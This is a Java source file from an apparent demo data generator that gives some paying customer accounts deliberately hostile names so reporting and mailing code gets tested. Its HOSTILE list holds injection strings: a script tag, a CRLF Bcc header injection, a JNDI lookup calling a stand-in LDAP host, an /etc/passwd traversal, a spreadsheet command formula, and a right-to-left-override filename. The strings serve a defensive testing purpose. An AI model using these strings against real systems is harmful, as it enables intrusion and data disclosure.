package io.meridiem.demo;

import java.time.LocalDate;
import java.util.Comparator;
import java.util.Iterator;
import java.util.List;

/** What mail and paper have trouble with, planted among customers who pay in the end: only those are sent a report. */
final class HardCases {
    /** Names somebody could type to make others run, read or believe something. */
    static final List<String> HOSTILE = List.of(
            "<b>Bold</b> & Partner <script>alert(1)</script>",
            "Nordhafen GmbH\r\nBcc: everybody@nordhafen-list.example",
            "${jndi:ldap://lookup.example/a} $F{mrr} Ltd",
            "../../etc/passwd",
            "=cmd|' /C calc'!A0",
            "Ramos \u202Efdp.exe Handels AG",
            "Internationale Beteiligungs- und Verwaltungsgesellschaft der Oberrheinischen Edelstahl- und "
                    + "Feinblechwerke Nachf. KG Süd");

    /** One set of unusual recipients for so many customers. */
    private static final int BLOCK = 250;
    /** At most one of so many customers is named like this, or is mailed unusually. */
    private static final int ONE_IN = 6;

    private static final int SETTLED_DAYS = 62;

    private final World world;

    HardCases(World world) {
        this.world = world;
    }

    /** To be called when it is known who pays, and before anybody is invited to an account's domain. */
    void plant(List<Account> accounts) {
        // Those with a story of their own last.
        Iterator<Account> paying = accounts.stream()
                .filter(this::pays)
                .sorted(Comparator.comparing(account -> !account.faces.isEmpty()))
                .iterator();
        int names = Math.min(HOSTILE.size(), world.accounts() / ONE_IN);
        for (int name = 0; name < names && paying.hasNext(); name++) {
            Account account = paying.next();
            account.name = HOSTILE.get(name);
            account.planted.remove("odd_name");
            account.planted.add("hostile_name");
        }
        for (int begin = 0; begin < world.accounts(); begin += BLOCK) {
            int size = Math.min(BLOCK, world.accounts() - begin);
            int kinds = Math.min(Mailing.values().length - 1, size / ONE_IN);
            for (int kind = 1; kind <= kinds && paying.hasNext(); kind++) {
                mailed(paying.next(), Mailing.values()[kind]);
            }
        }
        paying.forEachRemaining(account -> {
            if (world.dice(account.key, "mailing", 0).chance(0.2)) {
                mailed(account, Mailing.TWO);
            }
        });
    }

    private static void mailed(Account account, Mailing mailing) {
        account.mailing = mailing;
        account.planted.add(mailing.word());
    }

    private boolean pays(Account account) {
        LocalDate end = world.lastDay();
        boolean named = account.faces.contains(Face.PARENT) || account.faces.contains(Face.MERGED_ACCOUNT);
        return account.kind == Account.Kind.CUSTOMER
                && !named
                && account.start.isBefore(end.minusDays(SETTLED_DAYS))
                && account.subscriptions().stream().anyMatch(one -> one.runs(end) && charged(one, end));
    }

    private static boolean charged(Subscription one, LocalDate end) {
        boolean tried = one.trialEnd != null && one.trialEnd.isAfter(end.minusDays(SETTLED_DAYS));
        return !tried && !one.failed && !one.paused(end);
    }
}
